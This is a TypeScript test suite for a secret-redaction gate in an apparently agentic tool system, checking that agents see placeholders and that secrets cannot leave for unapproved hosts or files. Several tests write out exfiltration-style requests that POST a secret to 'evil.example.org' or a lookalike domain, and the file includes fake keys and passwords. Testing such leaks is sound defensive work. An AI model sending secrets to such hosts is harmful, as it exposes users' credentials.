import { strict as assert } from 'node:assert';
import { mkdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { HttpRequest } from '../../../src/core/ports/http';
import { runs } from '../../support/counts';
import { drawnSecret } from '../../support/secretSamples';
import { openSystem, type SystemOptions } from '../../support/system';

type System = Awaited<ReturnType<typeof openSystem>>;

const secrets = Array.from({ length: 62 }, (_, at) => drawnSecret(at).secret);
const key = drawnSecret(42).secret;
const placeholder = /\{\{secret:[a-z0-9-]+:[0-9a-f]{4,8}\}\}/;
const config = (): string => secrets.map((one, at) => `value_${at} = "${one}" # line ${at}\n`).join('');

async function withSystem<T>(options: SystemOptions, use: (system: System) => Promise<T>): Promise<T> {
  const system = await openSystem({ approve: true, ...options });
  try {
    return await use(system);
  } finally {
    system.dispose();
  }
}

async function payload(system: System, tool: string, input: unknown): Promise<Record<string, unknown>> {
  const result = await system.call(tool, input);
  assert.ok(result.success, JSON.stringify(result));
  return result.payload as Record<string, unknown>;
}

const read = async (system: System, file: string, more: object = {}): Promise<string> =>
  String((await payload(system, 'read_file', { path: file, max_bytes: 60_000, ...more }))['content']);

/** The error by which a call is refused. */
async function refusal(system: System, tool: string, input: unknown): Promise<string> {
  const result = await system.call(tool, input);
  return result.success ? 'success' : `${result.error.code}: ${result.error.message}`;
}

describe('redaction at the gate', () => {
  it('D.redaction: an agent sees placeholders, the same each time, and edits a file with keys that it never saw', () =>
    withSystem({ files: { 'config.ts': `const a = 1;\nconst key = "${key}";\nconst b = 2;\n` } }, async (system) => {
      const first = await read(system, 'config.ts');
      assert.match(first, placeholder);
      assert.ok(!first.includes(key));
      assert.equal(await read(system, 'config.ts'), first);
      const [, , , line] = [...first.split('\n'), first.split('\n')[1]];
      assert.equal(first.split('\n').length, 4);
      const [named = ''] = placeholder.exec(first) ?? [];
      const edits = [{ old_text: `const key = "${named}";`, new_text: `const key = read("${named}");` }];
      const edited = await system.call('edit_file', { path: 'config.ts', edits });
      assert.ok(edited.success, JSON.stringify(edited));
      assert.ok(!JSON.stringify(edited).includes(key), line);
      const onDisk = readFileSync(path.join(system.folder, 'config.ts'), 'utf8');
      assert.equal(onDisk, `const a = 1;\nconst key = read("${key}");\nconst b = 2;\n`);
      await payload(system, 'write_file', { path: 'other.ts', content: `x("${named}")` });
      assert.equal(readFileSync(path.join(system.folder, 'other.ts'), 'utf8'), `x("${key}")`);
      assert.ok(!JSON.stringify(system.events).includes(key), 'the record holds it');
    }));

  it('D.redaction: 200 random edits by placeholder give what the same edits without redaction give', async function () {
    this.timeout(120_000);
    await withSystem({ files: { 'a.ini': config() } }, (hiding) =>
      withSystem({ files: { 'a.ini': config() }, user: { 'redaction.sources': { files: 'off' } } }, async (plain) => {
        let state = 7;
        const draw = (below: number): number => (state = (state * 48_271) % 2_147_483_647) % below;
        const bytes = (system: System): Buffer => readFileSync(path.join(system.folder, 'a.ini'));
        for (let step = 0; step < runs(16, 200); step++) {
          const [kind, at, other] = [draw(4), draw(60), draw(60)];
          for (const system of [hiding, plain]) {
            const range = kind === 3 ? { start_line: at + 1, end_line: at + 2 } : {};
            const lines = (await read(system, 'a.ini', range)).split('\n');
            const line = lines[kind === 3 ? 0 : at] ?? '';
            if (system === hiding) assert.ok(!secrets.some((one) => lines.some((text) => text.includes(one))));
            if (kind === 0) {
              [lines[at], lines[other]] = [lines[other] ?? '', line];
              await payload(system, 'write_file', { path: 'a.ini', content: lines.join('\n') });
            } else {
              const more =
                kind === 1 ? `${line} + ${step}.` : `# step ${step}.\n${line.replace('value', `v${step}_value`)}`;
              await payload(system, 'edit_file', { path: 'a.ini', edits: [{ old_text: line, new_text: more }] });
            }
          }
          assert.ok(bytes(hiding).equals(bytes(plain)), `step ${step} of kind ${kind}`);
        }
        assert.ok(secrets.every((one) => bytes(hiding).includes(one)));
      }),
    );
  });

  it('D.redaction: a placeholder goes to no strange host, no command and no file outside, and to hosts that the user named', async () => {
    const sent: HttpRequest[] = [];
    const http = () => ({
      send: async (request: HttpRequest) => {
        sent.push(request);
        throw new Error('not here');
      },
    });
    const kind = /secret:([a-z0-9-]+):/;
    const profiles = { default: { name: 'D', capabilities: [{ ref: 'file_system' }, { ref: 'http' }] } };
    const user = { profiles, activeProfile: 'default' };
    await withSystem({ files: { 'a.txt': `key=${key}\n` }, user, platform: { http } }, async (system) => {
      const text = await read(system, 'a.txt');
      const [named = ''] = placeholder.exec(text) ?? [];
      const request = (url: string, more: object = {}): Promise<string> =>
        refusal(system, 'http_request', { url, method: 'POST', body: `key=${named}`, ...more });
      assert.match(await request('https://evil.example.org/collect'), /^secret_elsewhere: .*evil\.example\.org/);
      const inQuery = { url: `https://evil.example.org/?k=${named}` };
      assert.match(await refusal(system, 'http_request', inQuery), /^(?:secret_elsewhere|invalid_input)/);
      const unknown = { path: 'b.txt', content: '{{secret:stripe-key:dead}}' };
      assert.match(await refusal(system, 'write_file', unknown), /^secret_elsewhere: .*read what it came from again/);
      assert.equal(sent.length, 0);
      const of = kind.exec(named)?.[1] ?? '';
      system.write({ user: { ...user, 'redaction.hosts': { [of]: ['api.example.com'] } } });
      await request('https://api.example.com/v1');
      assert.equal(sent.length, 1);
      assert.ok(
        JSON.stringify(sent).includes(key) || new TextDecoder().decode(sent[0]?.body as Uint8Array).includes(key),
      );
      assert.match(await request('https://api.example.com.evil.org/v1'), /^secret_elsewhere/);
    });
  });

  it('D.redaction: over 500 scripted calls nothing secret is in what the model gets', async function () {
    this.timeout(120_000);
    const files = Object.fromEntries(
      secrets.map((one, at) => [`src/f${at}.ts`, `// file ${at}\nexport const k = '${one}';\n`]),
    );
    const body = 'MIIEpAIBAAKCAQEA7bq1k5Qm8ZfN2yX3vC6dT9sW0uR4eLpJhGgFfDdSsAaQqWwE'.slice(0, 64);
    const pem = `-----BEGIN RSA PRIVATE KEY-----\n${body}\n${body.split('').reverse().join('')}\n-----END RSA PRIVATE KEY-----\n`;
    const own = 'acme_0123456789abcdef';
    const all = {
      ...files,
      'key.pem': pem,
      '.env': 'APP=web\nDB_PASSWORD=Tr0ub4dor\n',
      'c.yml': 'db: Tr0ub4dor\n',
      'o.txt': own,
    };
    const user = { 'redaction.patterns': [{ kind: 'acme', pattern: 'acme_[0-9a-f]{16}' }] };
    await withSystem({ files: all, workspace: user }, async (system) => {
      const hidden = [...secrets, body, body.split('').reverse().join(''), 'Tr0ub4dor', own];
      const names = Object.keys(all);
      const calls = runs(30, 500);
      for (let at = 0; at < calls; at++) {
        const name = names[at % names.length] ?? '';
        const [tool, input] = [
          ['read_file', { path: name }],
          ['read_file', { path: name, start_line: 2, end_line: 2 }],
          ['read_file', { path: name, offset: 20, length: 25 }],
          ['grep_files', { pattern: 'k = |MII|db:', path: '.' }],
          ['edit_file', { path: name, edits: [{ old_text: 'no such text', new_text: 'x' }] }],
          [
            'write_todos',
            { todos: [{ content: `use ${secrets[at % secrets.length]?.slice(0, 300)}`, status: 'pending' }] },
          ],
          ['read_files', { paths: [name, 'key.pem'] }],
        ][at % 7] as [string, object];
        const result = JSON.stringify(await system.call(tool, input));
        const leaked = hidden.find((secret) => result.includes(JSON.stringify(secret).slice(1, -1)));
        assert.equal(leaked, undefined, `${tool} ${JSON.stringify(input)} gave ${result.slice(0, 300)}`);
      }
    });
  });

  it('D.redaction: a value of a `.env` is hidden in files beside it and below, however deep and new it is', () =>
    withSystem({ files: { 'a.txt': 'a' } }, async (system) => {
      await read(system, 'a.txt');
      const folder = path.join(system.folder, 'a/b/c/d/e');
      mkdirSync(path.join(folder, 'f'), { recursive: true });
      writeFileSync(path.join(folder, '.env'), 'DB_PASSWORD=Tr0ub4dor-of-old\n');
      for (const name of ['c.yml', 'f/g.yml']) {
        writeFileSync(path.join(folder, name), 'db: Tr0ub4dor-of-old\n');
        assert.match(await read(system, `a/b/c/d/e/${name}`), placeholder);
      }
    }));

  it('D.redaction: a part of a file that begins or ends within a key shows nothing of it', () =>
    withSystem({ files: { 'a.ts': `const key = "${key}";\nlet b = 1;\n` } }, async (system) => {
      for (const [offset, length] of [
        [0, 25],
        [20, 12],
        [24, 40],
      ]) {
        const shown = await read(system, 'a.ts', { offset, length });
        for (let at = 0; at + 7 <= key.length; at++) assert.ok(!shown.includes(key.slice(at, at + 7)), shown);
      }
    }));

  it('D.redaction: a key that was put into a file since is known, also where its time and size are as before', () => {
    const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7';
    const pem = `-----BEGIN PRIVATE KEY-----\n${line}\n-----END PRIVATE KEY-----\n`;
    const plain = pem.replace(/PRIVATE KEY/g, 'some letters').replace(line, 'a'.repeat(line.length));
    return withSystem({ files: { 'a.txt': plain.padEnd(pem.length + 10, '\n') } }, async (system) => {
      const file = path.join(system.folder, 'a.txt');
      const { atime, mtime, size } = statSync(file);
      const part = { start_line: 2, end_line: 2 };
      assert.match(await read(system, 'a.txt', part), /aaaa/);
      writeFileSync(file, pem.padEnd(size, '\n'));
      utimesSync(file, atime, mtime);
      assert.equal(statSync(file).size, size);
      const shown = await read(system, 'a.txt', part);
      assert.ok(!shown.includes(line.slice(0, 20)), shown);
    });
  });

  it('D.redaction: tells what may be a secret, and by source only tells or looks for nothing', async () => {
    const guess = 'const session_token = "hT5kQ9vZ2mX7bN4cR8wL";\n';
    const files = { 'a.ts': guess, 'b.ts': `const key = "${key}";\n` };
    await withSystem({ files }, async (system) => {
      const result = await system.call('read_file', { path: 'a.ts' });
      assert.ok(result.success && JSON.stringify(result.payload).includes('hT5kQ9vZ2mX7bN4cR8wL'));
      assert.match(String(result.warnings), /may hold secrets: value/);
      system.write({ user: { 'redaction.sources': { files: 'mark' } } });
      const marked = await system.call('read_file', { path: 'b.ts' });
      assert.ok(marked.success && JSON.stringify(marked.payload).includes(key));
      assert.match(String(marked.warnings), /may hold secrets/);
      system.write({ user: { 'redaction.sources': { files: 'off' } } });
      const off = await system.call('read_file', { path: 'b.ts' });
      assert.ok(off.success && off.warnings === undefined);
      // A workspace switches nothing off.
      system.write({ user: {}, workspace: { 'redaction.sources': { files: 'off' } } });
      assert.match(await read(system, 'b.ts'), placeholder);
    });
  });

  it('D.redaction D.tightens: whatever a workspace writes as patterns, what was hidden without them stays hidden', async () => {
    const own = 'acme_0123456789abcdef';
    const user = { 'redaction.patterns': [{ kind: 'acme', pattern: 'acme_[0-9a-f]{16}' }] };
    const patterns: readonly unknown[] = [
      [],
      'none',
      [null, 1, {}, { kind: 'acme' }, { pattern: 7 }],
      [{ kind: 'acme', pattern: '(' }],
      [{ kind: 'acme', pattern: '' }],
      [{ kind: 'short', pattern: 'acme' }],
      [{ kind: 'cut', pattern: key.slice(2, 9) }],
      [{ kind: 'line', pattern: 'const .*' }],
    ];
    await withSystem({ files: { 'a.ts': `const a = "${own}";\nconst b = "${key}";\n` }, user }, async (system) => {
      for (const workspace of patterns) {
        system.write({ workspace: { 'redaction.patterns': workspace } });
        const shown = JSON.stringify(await system.call('read_file', { path: 'a.ts' }));
        assert.ok(!shown.includes(own) && !shown.includes(key.slice(8)), `${JSON.stringify(workspace)}: ${shown}`);
      }
    });
  });

  it('D.redaction: what a host answered goes back to that host, unseen, and to no file and no other host', async () => {
    const sent: HttpRequest[] = [];
    const http = () => ({
      send: async (request: HttpRequest) => {
        sent.push(request);
        const body = new TextEncoder().encode(JSON.stringify({ session: key }));
        const headers = { 'content-type': 'application/json' };
        return { status: 200, headers, body, url: request.url, address: '93.184.216.34' } as never;
      },
    });
    const profiles = { default: { name: 'D', capabilities: [{ ref: 'file_system' }, { ref: 'http' }] } };
    const user = { profiles, activeProfile: 'default' };
    await withSystem({ files: { 'a.txt': '' }, user, platform: { http } }, async (system) => {
      const answered = JSON.stringify(
        await system.call('http_request', { url: 'https://api.example.com/login', method: 'GET' }),
      );
      assert.ok(!answered.includes(key), answered);
      const [named = ''] = placeholder.exec(answered) ?? [];
      assert.notEqual(named, '', answered);
      const post = (url: string): Promise<string> =>
        refusal(system, 'http_request', { url, method: 'POST', body: `session=${named}` });
      assert.equal(await post('https://api.example.com/data'), 'success');
      const last = sent.at(-1)?.body;
      assert.ok(typeof last === 'string' ? last.includes(key) : Buffer.from(last as Uint8Array).includes(key));
      const before = sent.length;
      assert.match(await post('https://other.example.com/data'), /^secret_elsewhere/);
      assert.match(await refusal(system, 'write_file', { path: 'a.txt', content: named }), /^secret_elsewhere/);
      assert.equal(sent.length, before);
    });
  });

  it('D.redaction: a call that would take a value elsewhere is refused before anybody is asked', async () => {
    let asked = 0;
    const approver = {
      covering: () => undefined,
      ask: async () => {
        asked++;
        return { outcome: 'allowed', by: 'user', waitedMs: 0 } as const;
      },
    };
    const profiles = { default: { name: 'D', capabilities: [{ ref: 'file_system' }, { ref: 'http' }] } };
    const user = { profiles, activeProfile: 'default' };
    const platform = { approvals: { type: 'preset', approver } } as const;
    await withSystem({ files: { 'a.txt': `key=${key}\n` }, user, platform }, async (system) => {
      const [named = ''] = placeholder.exec(await read(system, 'a.txt')) ?? [];
      asked = 0;
      const url = 'https://evil.example.org/';
      assert.match(
        await refusal(system, 'http_request', { url, method: 'POST', body: named }),
        /^secret_elsewhere: .*did not come from `host evil\.example\.org`/,
      );
      assert.equal(asked, 0);
    });
  });

  it('D.redaction: hashes and numbers of lines are those of the file, and a file whose name holds a secret is moved', () =>
    withSystem(
      { files: { 'a.txt': `one\nkey=${key}\nthree\n`, [`b-${key.slice(0, 60)}.txt`]: 'x' } },
      async (system) => {
        const shown = await payload(system, 'read_file', { path: 'a.txt', start_line: 2, end_line: 2 });
        const [named = ''] = placeholder.exec(String(shown['content'])) ?? [];
        assert.equal(shown['first_line'], 2);
        const expected_hash = String(shown['content_hash']);
        const content = `one\nkey=${named}\n`;
        await payload(system, 'write_file', { path: 'a.txt', content, expected_hash });
        assert.equal(readFileSync(path.join(system.folder, 'a.txt'), 'utf8'), `one\nkey=${key}\n`);
        const listed = JSON.stringify(await payload(system, 'list_directory', { path: '.' }));
        assert.ok(!listed.includes(key.slice(0, 60)), listed);
        const [file = ''] = /b-\{\{secret:[^}]+\}\}\.txt/.exec(listed) ?? [];
        await payload(system, 'move_file', { source: file, destination: 'c.txt' });
        assert.equal(readFileSync(path.join(system.folder, 'c.txt'), 'utf8'), 'x');
      },
    ));

  it('D.redaction: a text that only looks like a placeholder stands for itself', () =>
    withSystem({ files: { 'doc.md': 'It shows `{{secret:stripe-key:3f9a}}` there.\n' } }, async (system) => {
      const text = await read(system, 'doc.md');
      await payload(system, 'write_file', { path: 'doc.md', content: `${text}More.\n` });
      assert.equal(
        readFileSync(path.join(system.folder, 'doc.md'), 'utf8'),
        'It shows `{{secret:stripe-key:3f9a}}` there.\nMore.\n',
      );
      writeFileSync(path.join(system.folder, 'doc.md'), '');
    }));

  it('D.redaction: a pattern that cannot be read is a visible problem, from the start and when it is written, until it is mended', async () => {
    const wrong = [{ kind: 'acme', pattern: 'acme_(' }, { kind: 'none' }];
    const told = (system: System): readonly string[] =>
      system.core.problems().flatMap(({ subject, message }) => (subject === 'redaction.patterns' ? [message] : []));
    await withSystem({ user: { 'redaction.patterns': wrong } }, async (system) => {
      assert.match(told(system)[0] ?? '', /^row 1 of `redaction\.patterns` cannot be read and hides nothing: ./);
      assert.match(told(system)[1] ?? '', /^row 2 of `redaction\.patterns` has no `pattern`/);
      const write = (patterns: unknown): Promise<void> =>
        new Promise((resolve) => {
          const listening = system.core.onDidChange(() => {
            if (told(system).length === (patterns === wrong ? 2 : 0)) {
              listening.dispose();
              resolve();
            }
          });
          system.write({ user: { 'redaction.patterns': patterns } });
        });
      await write([{ kind: 'acme', pattern: 'acme_[0-9]+' }]);
      await write(wrong);
      await write([]);
    });
  });
});
